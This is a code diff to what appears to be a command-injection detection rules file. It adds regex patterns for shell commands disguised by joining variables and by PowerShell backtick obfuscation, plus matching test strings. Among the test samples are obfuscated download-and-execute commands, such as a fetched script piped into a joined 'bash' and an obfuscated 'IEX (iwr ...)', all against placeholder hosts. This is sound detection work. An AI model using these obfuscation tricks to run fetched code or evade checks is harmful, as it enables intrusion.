@@ -47,6 +47,9 @@ final class CommandRules {
   /** A variable that nobody has set. */
   private static final String EMPTY = "\\$(?:\\{\\w{1,8}\\}|[0-9])";
 
+  /** A name put together from two variables. */
+  private static final String JOINED = VARIABLE + VARIABLE;
+
   static final List<Rule> ALL =
       List.of(
           Rule.injection("shell_exec", Severity.MEDIUM)
@@ -158,7 +161,12 @@ final class CommandRules {
                   "Undo the disguise somewhere safe and judge the command that comes out. Whoever"
                       + " hides a command rarely means well.")
               .unseen("Disguises inside a program that is not a shell.")
-              .finds("(?:[;|]|&&) ?" + VARIABLE + VARIABLE + "(?:\\s+[-/~h\"']|\\s*[;|&]|$)")
+              .finds("(?:[;|]|&&) ?" + JOINED + "(?:\\s+[-/~h\"']|\\s*[;|&]|$)")
+              .finds("[;|&\\n] ?\"" + JOINED + "\"\\s+[-/~h]")
+              .finds("\\| " + JOINED + "\\n")
+              // PowerShell drops the mark.
+              .finds("(?i:\\b(?:i`e`?x|ie`x)[\\s(])")
+              .finds("(?i:\\b(?:(?:n`e`?w|ne`w)`?-o|new-ob?j?e?c?`[bject]))")
               .finds(
                   "=[\"']?(?:rm|curl|wget|(?:ba|z|da|k)?sh|nc|ncat|mkfs|eval|chmod|base64)[\"']? ?(?:;|&&)"
                       + "(?:[^\\n\\x00]*[;|&(])? ?[\"']?"
@@ -227,6 +235,10 @@ final class CommandRules {
                   "/???/c?t /tmp/x",
                   "$(rev <<< 'dwp')",
                   "a=w;b=get;$a$b -q h.example",
+                  "a=w;b=get;\"$a$b\" -q h.example",
+                  "s=ba; t=sh\nget h.example | $s$t\n",
+                  "I`EX (iwr h.example)",
+                  "(N`ew-Obj`ect Net.WebC`lient)",
                   "x='rm'; y='-r'; $x $y build",
                   "s=sh; ls | $s",
                   "x=rm; $x -rf build",
@@ -252,6 +264,7 @@ final class CommandRules {
                   "printf '\\033[1m\\033[0m' | less",
                   "eval \"$(printf '%s' x)\"",
                   "x^2 + y^2",
+                  "the `new`-operator, `new-object` and `i`",
                   "import {cat, dog} from './pets'",
                   "/api/items/?page=1",
                   "a=1; b=2; echo $a$b",
